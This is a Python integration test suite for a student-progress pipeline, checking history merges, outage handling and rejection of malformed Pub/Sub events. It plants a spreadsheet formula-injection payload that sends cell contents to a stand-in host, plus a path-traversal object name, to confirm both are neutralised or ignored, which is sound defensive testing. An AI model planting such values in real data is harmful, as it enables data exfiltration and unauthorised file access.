"""Nothing good is overwritten and every hostile event gets a named answer, on the local emulator stack.

- The history rule (loader.MERGE_PROGRESS) over random interleavings of observations (Hypothesis).
- A Cademi outage during a re-extraction: no `ok` row lost, the run not reported `succeeded`.
- A lost load event re-sent by the resume; a finished run with too many failures is `incomplete`.
- Hostile events at the three event functions (in-process, through functions-framework): each is answered 200
  (acknowledged, so Pub/Sub does not redeliver it five times), recorded once in `failures` with a named
  reason, and no other table changes.
- Names that a spreadsheet would run as formulas are exported neutralised.
"""

from __future__ import annotations

import base64
import itertools
import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from functions_framework import create_app
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devstack.here import services_here
from devstack.stack import LocalStack
from progress_monitor.commands.replay import reextract
from progress_monitor.contracts.values import RunId
from progress_monitor.pipeline import loader, reporting, runs
from progress_monitor.platform import warehouse
from progress_monitor.settings import Settings
from progress_monitor.stages.daily import resume_run
from tests.pipeline_world import BIG_TAG, OTHER_TAG, SMALL_TAG, WEEKS, start_stack, world

pytestmark = pytest.mark.integration
ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"ver")'


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalStack]:
    school = world()
    for user in school["users"]:  # students edit their own names in Cademi
        if 2001 <= user["id"] < 3000:
            user["nome"] = FORMULA
            user["celular"] = "+55 21 99999-0000"
    stack = start_stack(tmp_path_factory.mktemp("resilience"), school)
    yield stack
    stack.stop()


def cfg() -> Settings:
    return Settings.from_env()


def run_week(stack: LocalStack, week_index: int, rerun: str | None = None) -> dict[str, Any]:
    row = stack.wait_run(stack.trigger(date.fromisoformat(WEEKS[week_index]), rerun=rerun), timeout=240)
    assert row["status"] == "succeeded", row
    return row


def history_of(week: str, tag_id: int) -> dict[tuple[int, int], tuple[Any, ...]]:
    rows = warehouse.query(
        services_here(),
        "SELECT * FROM `${progress_history}` WHERE snapshot_date = @d AND tag_id = @t",
        d=date.fromisoformat(week),
        t=tag_id,
    )
    return {(r["user_id"], r["product_id"]): (r["status"], r["total"], r["extracted_at"]) for r in rows}


# -- the history rule, over random interleavings ---------------------------------------------------------------

RANK = {"ok": 2, "no_access": 1, "failed": 0}
RULE_WEEK = date(2026, 8, 31)  # a Monday no run writes: the property test's own rows
RULE_TAG, RULE_PRODUCT = SMALL_TAG, 301
T0 = datetime(2026, 8, 31, 12, 0, tzinfo=UTC)
user_ids = itertools.count(900_000)


@dataclass(frozen=True)
class Observation:
    status: str
    minute: int  # extracted_at = T0 + minute (distinct within a key)
    total: float | None

    @property
    def at(self) -> datetime:
        return T0 + timedelta(minutes=self.minute)

    def row(self, user_id: int) -> dict[str, Any]:
        ok = self.status == "ok"
        return {
            "snapshot_date": RULE_WEEK.isoformat(),
            "tag_id": RULE_TAG,
            "user_id": user_id,
            "product_id": RULE_PRODUCT,
            "status": self.status,
            "total": self.total if ok else None,
            "assistidas": int(self.total or 0) // 5 if ok else None,
            "completas": int(self.total or 0) // 6 if ok else None,
            "error": f"erro {self.minute}" if self.status == "failed" else None,
            "run_id": f"{RULE_WEEK.isoformat()}-m{self.minute}",
            "extracted_at": self.at.isoformat(),
        }


def expected(observations: list[Observation]) -> tuple[Any, ...]:
    """The rule, stated independently of the SQL: the best observation holds the value (status rank first,
    then time); the latest failed attempt is remembered whatever holds the value."""
    best = max(observations, key=lambda o: (RANK[o.status], o.minute))
    failures = [o for o in observations if o.status == "failed"]
    last_failure = max(failures, key=lambda o: o.minute) if failures else None
    return (
        best.status,
        best.total if best.status == "ok" else None,
        best.at,
        last_failure.at if last_failure else None,
        f"erro {last_failure.minute}" if last_failure else None,
    )


observation_lists = st.lists(
    st.builds(
        Observation,
        status=st.sampled_from(["ok", "failed", "no_access"]),
        minute=st.integers(0, 10_000),
        total=st.floats(0, 100, allow_nan=False).map(lambda t: round(t, 1)),
    ),
    min_size=1,
    max_size=5,
    unique_by=lambda o: o.minute,
)


def merge_staged(settings_: Settings, rows: list[dict[str, Any]], shard: str) -> None:
    """Run the loader's MERGE on `rows` staged as one shard would be (the load job itself is the emulator's)."""
    staging = loader._staging_table(
        services_here(), "progress", f"gs://rule/{shard}", 1, loader.staging_fields("progress")
    )
    try:
        services_here().bigquery.insert_rows_json(staging, rows)
        params = {"tag_id": RULE_TAG, "snapshot_date": RULE_WEEK, "today": date.today() + timedelta(days=7)}
        warehouse.query(
            services_here(),
            loader.MERGE_PROGRESS,
            sql_vars={"staging": staging},
            shard=shard,
            now=datetime.now(UTC),
            **params,
        )
    finally:
        loader._drop(services_here(), staging)


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(keys=st.lists(observation_lists, min_size=1, max_size=2), order=st.randoms(use_true_random=False))
def test_no_interleaving_of_shards_lets_a_worse_observation_replace_a_better_one(
    stack: LocalStack, keys: list[list[Observation]], order: Any
) -> None:
    """Each key's observations arrive in a random order, spread over shards (one observation per key per
    shard, as real shards hold); whatever the order, the row ends as the rule says."""
    settings_ = cfg()
    users = [next(user_ids) for _ in keys]
    arrivals = [(user, o) for user, observations in zip(users, keys, strict=True) for o in observations]
    order.shuffle(arrivals)
    shards: list[list[dict[str, Any]]] = []
    for user, observation in arrivals:
        shard = next((s for s in shards if all(r["user_id"] != user for r in s)), None)
        if shard is None:
            shard = []
            shards.append(shard)
        shard.append(observation.row(user))
    for i, rows in enumerate(shards):
        merge_staged(settings_, rows, f"rule-{users[0]}-{i}")
    found = warehouse.query(
        services_here(),
        "SELECT * FROM `${progress_history}` WHERE snapshot_date = @d AND user_id IN UNNEST(@users)",
        d=RULE_WEEK,
        users=users,
    )
    by_user = {r["user_id"]: r for r in found}
    assert set(by_user) == set(users)
    for user, observations in zip(users, keys, strict=True):
        r = by_user[user]
        actual = (r["status"], r["total"], r["extracted_at"], r["last_failed_at"], r["last_failure"])
        assert actual == expected(observations), (observations, [a[1] for a in arrivals if a[0] == user])


def test_empty_contact_fields_from_cademi_never_erase_stored_ones(stack: LocalStack) -> None:
    fields = loader.staging_fields("contacts")
    user = next(user_ids)
    for week, nome, email in ((date(2026, 8, 24), "Ana Souza", "ana@example.com"), (date(2026, 8, 31), "", " ")):
        staging = loader._staging_table(services_here(), "contacts", f"gs://rule/{user}/{week}", 1, fields)
        try:
            row = {"user_id": user, "nome": nome, "email": email, "celular": None}
            services_here().bigquery.insert_rows_json(staging, [row])
            warehouse.query(
                services_here(),
                loader.MERGE_CONTACTS,
                sql_vars={"staging": staging},
                tag_id=SMALL_TAG,
                snapshot_date=week,
                now=datetime.now(UTC),
            )
        finally:
            loader._drop(services_here(), staging)
    stored = warehouse.query(services_here(), "SELECT * FROM `${students}` WHERE user_id = @u", u=user)[0]
    assert (stored["nome"], stored["email"], str(stored["last_seen_date"])) == (
        "Ana Souza",
        "ana@example.com",
        "2026-08-31",
    )


# -- an outage, a lost event, a run with too many failures -----------------------------------------------------


def test_a_reextraction_during_an_outage_keeps_every_ok_row_and_is_not_succeeded(stack: LocalStack) -> None:
    """The operator re-extracts a week while every progress call answers 503: each delivery of the piece stops
    after a few students instead of writing failed rows, Pub/Sub dead-letters it after its attempts, the
    recorder writes its `failures` row at once (the run is `failed`, not left `running` until the daily health
    check, which resumes it later) and the history is unchanged."""
    week = WEEKS[3]
    run_week(stack, 3)
    before = history_of(week, BIG_TAG)
    assert before and all(v[0] == "ok" for v in before.values())
    stack.dead_letters()
    admin = stack.admin()
    admin.add_faults([{"week": 3, "path_prefix": "/usuario/progresso_por_produto", "status": 503, "times": 10**6}])
    admin.reset()
    run_id = reextract(services_here(), date.fromisoformat(week), BIG_TAG, "outage")
    dead: list[dict[str, Any]] = []
    deadline = time.monotonic() + 180
    while not dead and time.monotonic() < deadline:
        dead = [d for d in stack.dead_letters() if d["topic"] == "progress-tasks-dlq"]
        time.sleep(1)
    assert dead, "the piece was never dead-lettered"
    recorded: list[dict[str, Any]] = []
    deadline = time.monotonic() + 60
    while not recorded and time.monotonic() < deadline:
        recorded = warehouse.query(
            services_here(), "SELECT * FROM `${failures}` WHERE run_id = @r AND attempts IS NOT NULL", r=str(run_id)
        )
        time.sleep(1)
    assert [(r["stage"], r["tag_id"], r["piece"], r["attempts"]) for r in recorded] == [
        ("extract_progress", BIG_TAG, 0, 5)  # its subscription's max_delivery_attempts
    ]
    assert "Pub/Sub gave up" in recorded[0]["reason"] and '"run_id"' in recorded[0]["attributes"]
    assert runs.run_status(services_here(), run_id) == "failed"  # not succeeded, and run health shows why at once
    health = warehouse.query(services_here(), "SELECT * FROM `${report_run_health}` WHERE run_id = @r", r=str(run_id))
    assert health[0]["dead_lettered"] == 1
    assert history_of(week, BIG_TAG) == before
    progress_calls = admin.counters().get("faults_fired", 0)  # every progress call answered 503
    # Writing every student as failed would have spent 155 x 2 x 4 calls in each of the 5 deliveries.
    assert 0 < progress_calls < 155 * 2 * 4, progress_calls
    log = stack.child("extract_progress").log_path
    assert log is not None and log.read_text().count("Cademi looks down") >= 5


def test_a_lost_load_event_is_sent_again_by_the_resume(stack: LocalStack) -> None:
    run_id = RunId(date.fromisoformat(WEEKS[1]), "lost-event")
    run_week(stack, 1, rerun="lost-event")
    shard = warehouse.query(
        services_here(), "SELECT shard FROM `${loads}` WHERE run_id = @r AND tag_id = @t", r=str(run_id), t=OTHER_TAG
    )[0]["shard"]
    rows = warehouse.query(
        services_here(), "SELECT COUNT(*) AS n FROM `${progress_history}` WHERE shard = @s", s=shard
    )[0]["n"]
    # As if its finalize event had never arrived: not in the ledger, its rows not merged, the run unfinished.
    warehouse.query(services_here(), "DELETE FROM `${loads}` WHERE shard = @s", s=shard)
    warehouse.query(services_here(), "DELETE FROM `${progress_history}` WHERE shard = @s", s=shard)
    warehouse.query(services_here(), "UPDATE `${runs}` SET status = 'running' WHERE run_id = @r", r=str(run_id))
    assert resume_run(services_here(), run_id) == [f"reload {shard}"]
    row = stack.wait_run(run_id, timeout=120)
    assert row["status"] == "succeeded"
    again = warehouse.query(
        services_here(), "SELECT COUNT(*) AS n FROM `${progress_history}` WHERE shard = @s", s=shard
    )
    assert rows > 0 and again[0]["n"] == rows


@pytest.mark.parametrize(("failed", "status"), [(5, "succeeded"), (6, "incomplete")])
def test_a_finished_run_above_the_failure_share_is_incomplete(stack: LocalStack, failed: int, status: str) -> None:
    """Hand-computed: 100 records with a 5 % threshold; 5 failed is within it, 6 is not."""
    settings_ = cfg()
    run_id = RunId(date(2026, 8, 24), f"share-{failed}")
    runs.start_run(services_here(), run_id, 1)
    warehouse.query(
        services_here(),
        "UPDATE `${runs}` SET fanned_out_at = @now WHERE run_id = @r",
        r=str(run_id),
        now=datetime.now(UTC),
    )
    ledger = {
        "shard": f"share/{run_id}",
        "generation": 1,
        "run_id": str(run_id),
        "snapshot_date": run_id.snapshot_date,
        "tag_id": SMALL_TAG,
        "piece": 0,
        "last_piece": True,
        "rows_in_shard": 100,
        "rows_merged": 100,
        "failed": failed,
        "no_access": 0,
        "students": 50,
        "api_calls": 100,
        "rate_limited": 0,
        "loaded_at": datetime.now(UTC),
    }
    warehouse.query(
        services_here(),
        "INSERT INTO `${loads}` (" + ", ".join(ledger) + ") VALUES (" + ", ".join(f"@{k}" for k in ledger) + ")",
        **ledger,
    )
    runs.refresh_run(services_here(), run_id)
    assert runs.run_status(services_here(), run_id) == status
    assert settings_.run_max_failed_share == 0.05


# -- what tutors export --------------------------------------------------------------------------------------------


def test_names_a_spreadsheet_would_run_are_exported_neutralised(stack: LocalStack) -> None:
    run_week(stack, 0)
    listed = warehouse.query(
        services_here(), "SELECT nome, celular FROM `${tutor_list}` WHERE tag_id = @t", t=SMALL_TAG
    )
    assert listed, "the small class has students behind"
    assert all(r["nome"] == "'" + FORMULA for r in listed)
    assert all(r["celular"] == "'+55 21 99999-0000" for r in listed)
    stored = warehouse.query(
        services_here(), "SELECT DISTINCT nome FROM `${students}` WHERE user_id BETWEEN 2001 AND 2999"
    )
    assert [r["nome"] for r in stored] == [FORMULA]  # the raw value is kept
    assert reporting.spreadsheet_safe("x").startswith("IF(SUBSTR(x, 1, 1) IN (")


# -- hostile events ------------------------------------------------------------------------------------------------

STAGES = {
    "extract_tags": ("weekly-schedule", "schedule"),
    "extract_progress": ("progress-tasks", "progress"),
    "load_history": ("shard-events", "shards"),
}


def table_counts(settings_: Settings) -> dict[str, int]:
    names = ("progress_history", "runs", "loads", "registered_tags", "students", "failures")
    return {n: int(warehouse.query(services_here(), f"SELECT COUNT(*) AS n FROM `${{{n}}}`")[0]["n"]) for n in names}


def pubsub_push(data: Any, attributes: dict[str, str] | None = None, message_id: str = "") -> dict[str, Any]:
    """The body a Pub/Sub push subscription posts (functions-framework turns it into a CloudEvent)."""
    message: dict[str, Any] = {"data": data, "messageId": message_id or f"hostile-{time.time_ns()}"}
    if attributes is not None:
        message["attributes"] = attributes
    message["publishTime"] = "2026-09-07T11:00:00Z"
    return {"message": message, "subscription": "projects/local-project/subscriptions/hostile"}


def b64(value: Any) -> str:
    raw = value if isinstance(value, bytes) else json.dumps(value).encode()
    return base64.b64encode(raw).decode()


@dataclass(frozen=True)
class AsCloudEvent:
    """An event sent as a binary-mode CloudEvent (as Eventarc delivers), whose data is `data` as given."""

    data: Any

    def headers(self) -> dict[str, str]:
        return {
            "ce-id": f"hostile-{time.time_ns()}",
            "ce-specversion": "1.0",
            "ce-source": "//pubsub.googleapis.com/projects/local-project/topics/hostile",
            "ce-type": "google.cloud.pubsub.topic.v1.messagePublished",
            "Content-Type": "application/json",
        }

    def body(self) -> bytes:
        return self.data.encode() if isinstance(self.data, str) else json.dumps(self.data).encode()


TASK = {"run_id": WEEKS[2], "snapshot_date": WEEKS[2], "tag_id": SMALL_TAG, "product_ids": [301, 302, 303]}
# (name, function, push body or raw bytes, the reason's words); each is refused and recorded once.
HOSTILE_EVENTS: list[tuple[str, str, Any, str]] = [
    ("schedule data not base64", "extract_tags", pubsub_push("%%%not base64%%%"), "not base64"),
    ("schedule body not JSON", "extract_tags", pubsub_push(b64(b"\x00\xffnot json")), "not JSON"),
    ("schedule body a list", "extract_tags", pubsub_push(b64([1, 2])), "not a JSON object"),
    ("schedule event without a message", "extract_tags", AsCloudEvent({"mensagem": {}}), "no Pub/Sub message"),
    ("schedule message not an object", "extract_tags", AsCloudEvent({"message": "oops"}), "no Pub/Sub message"),
    ("schedule event data not JSON", "extract_tags", AsCloudEvent("{not json"), "not JSON"),
    ("past week on the real Cademi", "extract_tags", pubsub_push(b64({"week": "2026-01-05", "rerun": "x"})), "@real"),
    ("rerun label with a newline", "extract_tags", pubsub_push(b64({"rerun": "abc\n"})), "'rerun'"),
    ("rerun label with markup", "extract_tags", pubsub_push(b64({"rerun": "<b>x</b>"})), "'rerun'"),
    ("week in arabic-indic digits", "extract_tags", pubsub_push(b64({"week": "٢٠٢٦-09-07"})), "'week'"),
    ("tag ids as strings", "extract_tags", pubsub_push(b64({"tag_ids": ["7001"]})), "'tag_ids'"),
    ("oversized schedule body", "extract_tags", pubsub_push(b64({"pad": "x" * 70_000})), "larger than expected"),
    ("task data not base64", "extract_progress", pubsub_push("@@@"), "not base64"),
    (
        "task run id with a newline",
        "extract_progress",
        pubsub_push(b64({**TASK, "run_id": WEEKS[2] + "-a\n"})),
        "run_id",
    ),
    ("task run id not a Monday", "extract_progress", pubsub_push(b64({**TASK, "run_id": "2026-09-23"})), "run_id"),
    ("task tag id as text", "extract_progress", pubsub_push(b64({**TASK, "tag_id": "7002"})), "'tag_id'"),
    ("task tag id negative", "extract_progress", pubsub_push(b64({**TASK, "tag_id": -1})), "'tag_id'"),
    ("task tag id boolean", "extract_progress", pubsub_push(b64({**TASK, "tag_id": True})), "'tag_id'"),
    ("task products repeated", "extract_progress", pubsub_push(b64({**TASK, "product_ids": [301, 301]})), "repeats"),
    ("task products empty", "extract_progress", pubsub_push(b64({**TASK, "product_ids": []})), "product_ids"),
    ("task piece negative", "extract_progress", pubsub_push(b64({**TASK, "piece": -1})), "'piece'"),
    (
        "task with junk attributes",
        "extract_progress",
        pubsub_push(b64({**TASK, "tag_id": "x"}), {"tag_id": "²", "piece": "٣", "run_id": "2026-09-21\n"}),
        "'tag_id'",
    ),
    ("shard event data not base64", "load_history", pubsub_push("!!", {"eventType": "OBJECT_FINALIZE"}), "base64"),
    (
        "shard event without object",
        "load_history",
        pubsub_push(b64({}), {"eventType": "OBJECT_FINALIZE", "bucketId": "progress-shards"}),
        "lacks bucket or object name",
    ),
    (
        "shard generation in superscript digits",
        "load_history",
        pubsub_push(
            b64({}),
            {"eventType": "OBJECT_FINALIZE", "bucketId": "progress-shards", "objectId": "x", "objectGeneration": "²"},
        ),
        "generation is not a number",
    ),
    (
        "shard event for another bucket",
        "load_history",
        pubsub_push(
            b64({}),
            {"eventType": "OBJECT_FINALIZE", "bucketId": "elsewhere", "objectId": "x", "objectGeneration": "1"},
        ),
        "unexpected bucket",
    ),
    ("shard event data a list", "load_history", AsCloudEvent([1, 2]), "not an object"),
    ("shard event data not JSON", "load_history", AsCloudEvent("{oops"), "not JSON"),
]


def fresh_app(name: str) -> Any:
    """A new instance of the function: it builds its Services from the environment as it is now."""
    return create_app(name, str(ROOT / "functions" / name / "main.py"), "cloudevent").test_client()


@pytest.fixture(scope="module")
def apps(stack: LocalStack) -> dict[str, Any]:
    return {name: fresh_app(name) for name in STAGES}


@pytest.mark.parametrize(
    ("function", "body", "reason"), [c[1:] for c in HOSTILE_EVENTS], ids=[c[0] for c in HOSTILE_EVENTS]
)
def test_hostile_events_are_acknowledged_recorded_once_and_change_nothing(
    stack: LocalStack, apps: dict[str, Any], monkeypatch: pytest.MonkeyPatch, function: str, body: Any, reason: str
) -> None:
    app = apps[function]
    if reason == "@real":  # this case is about the real Cademi, which serves only the current week
        monkeypatch.setenv("CADEMI_BASE_URL", "https://escola.cademi.com.br/api/v1")
        reason = "past week"
        app = fresh_app(function)  # an instance started with that setting
    try:
        settings_ = cfg()
        before = table_counts(settings_)
        topic, _ = STAGES[function]
        if isinstance(body, AsCloudEvent):
            response = app.post("/", data=body.body(), headers=body.headers())
        else:
            response = app.post(f"/projects/local-project/topics/{topic}", json=body)
        assert response.status_code == 200, response.get_data(as_text=True)[:500]
        after = table_counts(settings_)
        assert after == {**before, "failures": before["failures"] + 1}
        latest = warehouse.query(
            services_here(), "SELECT stage, reason FROM `${failures}` ORDER BY failed_at DESC LIMIT 1"
        )[0]
        assert latest["stage"] == function and reason in latest["reason"], latest
    finally:
        monkeypatch.undo()


def test_an_object_that_is_not_a_shard_is_ignored_without_a_failure(stack: LocalStack, apps: dict[str, Any]) -> None:
    settings_ = cfg()
    before = table_counts(settings_)
    for name in (
        "progress/../../etc/passwd",
        "rosters/x.json",
        f"progress/snapshot_date={WEEKS[0]}/run={WEEKS[0]}/tag={SMALL_TAG}/piece=0000.ndjson\n",  # + a newline
    ):
        attributes = {
            "eventType": "OBJECT_FINALIZE",
            "bucketId": "progress-shards",
            "objectId": name,
            "objectGeneration": "1",
        }
        response = apps["load_history"].post(
            "/projects/local-project/topics/shard-events", json=pubsub_push(b64({}), attributes)
        )
        assert response.status_code == 200
    assert table_counts(settings_) == before


def test_a_body_that_is_no_event_at_all_is_refused_by_the_framework(stack: LocalStack, apps: dict[str, Any]) -> None:
    """Neither a CloudEvent nor a Pub/Sub push: functions-framework answers 400 before our code runs (Pub/Sub
    only ever sends one of the two, so this can come only from a caller inside the project)."""
    settings_ = cfg()
    before = table_counts(settings_)
    for body in ({"mensagem": {}}, {"message": "oops"}, {"message": []}):
        response = apps["extract_tags"].post("/projects/local-project/topics/weekly-schedule", json=body)
        assert response.status_code == 400
    assert table_counts(settings_) == before


def test_a_secret_read_failure_in_extraction_is_retried_not_dead_lettered(
    stack: LocalStack, apps: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A transient Secret Manager failure while building the Cademi client answers 500 (Pub/Sub redelivers
    with backoff) instead of dead-lettering the tag until the next day's health check."""
    task = {**TASK, "run_id": f"{WEEKS[2]}-secret"}
    body = pubsub_push(b64(task), {"run_id": task["run_id"], "tag_id": str(SMALL_TAG), "piece": "0"})
    settings_ = cfg()
    before = table_counts(settings_)
    stack.admin().set_week(WEEKS[2])
    monkeypatch.setenv("SECRETS_BACKEND", "env")
    monkeypatch.setenv("CADEMI_API_KEY", "")
    try:
        response = fresh_app("extract_progress").post("/projects/local-project/topics/progress-tasks", json=body)
        assert response.status_code == 500
        assert table_counts(settings_) == before  # no failure recorded: a retry is coming
        monkeypatch.setenv("CADEMI_API_KEY", stack.scenario.api_key)  # the secret answers again
        response = fresh_app("extract_progress").post("/projects/local-project/topics/progress-tasks", json=body)
        assert response.status_code == 200
        shard = f"progress/snapshot_date={WEEKS[2]}/run={task['run_id']}/tag={SMALL_TAG}/piece=0000.ndjson"
        assert services_here().shards.get_blob(shard) is not None
    finally:
        monkeypatch.undo()
